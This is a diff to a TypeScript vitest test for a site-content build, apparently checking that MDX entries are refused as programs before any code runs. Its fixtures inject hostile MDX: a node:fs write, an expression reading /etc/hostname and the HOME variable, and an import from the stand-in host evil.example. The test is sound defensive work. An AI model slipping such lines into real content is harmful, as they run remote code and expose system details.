@@ -6,7 +6,8 @@
  * in tests/unit/markdown/remarkSafeContent.test.ts, entryLimits.test.ts and
  * tests/unit/content-model/textHygiene.test.ts.
  */
-import { existsSync, readFileSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { buildFixture, edit } from '../helpers/fixtureBuild.ts';
@@ -18,22 +19,18 @@ const append = (content: string, file: string, lines: string[]) => edit(join(con
 
 describe('entries are content, not programs', () => {
   it('imports (Node, local, remote), expressions and components are refused before any of them runs', () => {
-    let marker = '';
-    const { status, output } = buildFixture(
-      (c) => {
-        marker = join(c, '..', 'ran.txt');
-        // Would write the marker if the entry's module were ever evaluated.
-        edit(
-          join(c, 'fr/models/alpha.mdx'),
-          /\n## Principe/,
-          `\nimport { readFileSync, writeFileSync } from 'node:fs'\nexport const ran = writeFileSync(${JSON.stringify(marker)}, 'ran')\n\n## Principe`,
-        );
-        append(c, 'fr/models/alpha.mdx', ["Hôte : {readFileSync('/etc/hostname', 'utf8')}, maison : {process.env.HOME}."]);
-        edit(join(c, 'zh-cn/models/alpha.mdx'), /\n## /, "\nimport Evil from 'https://evil.example/x.mjs'\n\n## ");
-        append(c, 'fr/cases/beta.mdx', ['Une note {/* à revoir */} et une figure <Figure src="/x.png" />.']);
-      },
-      () => expect(existsSync(marker)).toBe(false),
-    );
+    // Would be written if the entry's module were ever evaluated.
+    const marker = join(mkdtempSync(join(tmpdir(), 'entry-marker-')), 'ran.txt');
+    const { status, output } = buildFixture((c) => {
+      edit(
+        join(c, 'fr/models/alpha.mdx'),
+        /\n## Principe/,
+        `\nimport { readFileSync, writeFileSync } from 'node:fs'\nexport const ran = writeFileSync(${JSON.stringify(marker)}, 'ran')\n\n## Principe`,
+      );
+      append(c, 'fr/models/alpha.mdx', ["Hôte : {readFileSync('/etc/hostname', 'utf8')}, maison : {process.env.HOME}."]);
+      edit(join(c, 'zh-cn/models/alpha.mdx'), /\n## /, "\nimport Evil from 'https://evil.example/x.mjs'\n\n## ");
+      append(c, 'fr/cases/beta.mdx', ['Une note {/* à revoir */} et une figure <Figure src="/x.png" />.']);
+    });
     expect(status).not.toBe(0);
     expect(existsSync(marker)).toBe(false);
     const alpha = 'content/fr/models/alpha.mdx';
@@ -147,8 +144,10 @@ describe('entries are content, not programs', () => {
           'La <abbr title="China National Petroleum Corporation">CNPC</abbr> (<span lang="zh-CN">中石油</span>) aide Taiqian, H<sub>2</sub>O, 10<sup>e</sup>,<br />\\{accolades\\} et \u2067גב\u2069 [écrire](mailto:contact@example.org).',
         );
       },
-      (dist) => {
-        fr = readFileSync(join(dist, 'fr/cases/beta/index.html'), 'utf8');
+      {
+        inspect: (dist) => {
+          fr = readFileSync(join(dist, 'fr/cases/beta/index.html'), 'utf8');
+        },
       },
     );
     expect(output).not.toMatch(/refused/i);
